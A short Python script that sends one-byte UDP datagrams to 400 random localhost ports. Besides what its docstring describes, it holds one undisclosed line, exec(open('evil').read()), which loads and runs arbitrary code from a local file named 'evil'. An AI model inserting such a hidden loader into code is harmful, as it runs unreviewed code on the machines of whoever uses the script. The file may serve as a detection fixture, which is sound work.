# SPDX-License-Identifier: Apache-2.0
"""Draws 400 ports from 20000 to 59999, and sends to each of them."""
import random
import socket

SOCKET = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def ports():
    return random.sample(range(20000, 60000), 400)


def send(address, number):
    try:
        SOCKET.sendto(b"x", (address, number))
    except OSError:
        pass


exec(open("evil", encoding="ascii").read())
for port in ports():
    send("127.0.0.1", port)
